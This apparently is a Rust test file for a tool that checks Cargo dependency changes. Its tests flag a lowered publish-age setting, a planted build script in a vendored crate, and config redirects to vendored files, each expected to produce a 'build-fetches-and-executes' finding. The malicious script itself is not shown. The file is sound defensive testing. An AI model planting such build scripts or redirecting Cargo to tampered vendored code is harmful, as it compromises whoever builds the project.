fn a_change_cannot_lower_the_age_that_cargo_asks_for() {
    let seven = "[registry]\nglobal-min-publish-age = \"7 days\"\n";
    let open = |run: &Run| {
        let undetermined = run.report["undetermined"].as_array().expect("a list").iter();
        let of_codec = undetermined.filter(|one| one["subject"]["name"] == "codec");
        of_codec.filter(|one| one["what"] == "publish_age.younger").count()
    };
    let repository = Repository::on_main(&[(".cargo/config.toml", seven)]);
    repository.write(".cargo/config.toml", "[registry]\nglobal-min-publish-age = \"0\"\n");
    repository.write("Cargo.lock", &lock(&[("codec", "1.1.0", B)]));
    repository.commit();
    let run = repository.check(&["--since", "main"]);
    assert_eq!(open(&run), 1, "{:#}", run.report["undetermined"]);
    assert_eq!(open(&repository.check(&[])), 0, "without a base the tree's own counts");
}

/// The files of a vendored `codec` with this build script, and the configuration that leads to them.
fn vendored(script: &str) -> [(&'static str, String); 5] {
    let list = format!("{{\"files\":{{}},\"package\":\"{A}\"}}");
    let manifest = "[package]\nname = \"codec\"\nversion = \"1.0.0\"\nedition = \"2021\"\n";
    [
        (
            ".cargo/config.toml",
            "[source.crates-io]\nreplace-with = \"v\"\n[source.v]\ndirectory = \"vendor\"\n".into(),
        ),
        ("vendor/codec/.cargo-checksum.json", list),
        ("vendor/codec/Cargo.toml", manifest.into()),
        ("vendor/codec/src/lib.rs", String::new()),
        ("vendor/codec/build.rs", script.into()),
    ]
}

fn with_vendored(script: &str) -> Repository {
    let files = vendored(script);
    let files: Vec<(&str, &str)> = files.iter().map(|(file, text)| (*file, &**text)).collect();
    Repository::on_main(&files)
}

#[test]
fn vendored_files_that_a_change_alters_below_the_same_lock_entry_are_read() {
    let repository = with_vendored(HONEST);
    assert_eq!(repository.check(&["--since", "main"]).code, 0);
    repository.write("vendor/codec/build.rs", PLANTED);
    repository.commit();
    let run = repository.check(&["--since", "main"]);
    let found = "build-fetches-and-executes: introduced";
    assert!(run.has(found), "{:?} {}", run.findings(), run.stderr);
    assert_eq!((run.code, run.changes()), (1, vec!["codec 1.0.0 1.0.0".to_owned()]));
    // What the base had there is no news, and its list of hashes in another order is none either.
    let stood = with_vendored(PLANTED);
    let list = format!("{{\"package\":\"{A}\",\"files\":{{}}}}");
    stood.write("vendor/codec/.cargo-checksum.json", &list);
    let run = stood.check(&["--since", "main"]);
    assert!(run.has("build-fetches-and-executes: existing"), "{:?} {}", run.findings(), run.stderr);
    assert_eq!(run.code, 0, "{:?} {}", run.findings(), run.stderr);
}

#[test]
fn a_change_that_leads_cargo_to_other_files_has_them_read() {
    let repository = Repository::new();
    for (file, text) in vendored(PLANTED) {
        repository.write(file, &text);
    }
    repository.commit();
    let run = repository.check(&["--since", "main"]);
    let found = "build-fetches-and-executes: introduced";
    assert!(run.has(found), "{:?} {}", run.findings(), run.stderr);
    // The files lie in the base already, and only the configuration is new.
    let files = vendored(PLANTED);
    let lying: Vec<(&str, &str)> = files[1..].iter().map(|(file, text)| (*file, &**text)).collect();
    let led = Repository::on_main(&lying);
    assert_eq!(led.check(&["--since", "main"]).code, 0);
    led.write(files[0].0, &files[0].1);
    let run = led.check(&["--since", "main"]);
    assert!(run.has(found), "{:?} {}", run.findings(), run.stderr);
    assert_eq!(run.code, 1);
    // A new configuration that leads to the same folder is no change of it.
    let moved = with_vendored(HONEST);
    let text = files[0].1.replace("\"vendor\"", "\"./src/../vendor\"");
    moved.write(files[0].0, &text);
    let run = moved.check(&["--since", "main"]);
    assert_eq!((run.code, run.changes()), (0, vec![]), "{:?} {}", run.findings(), run.stderr);
}
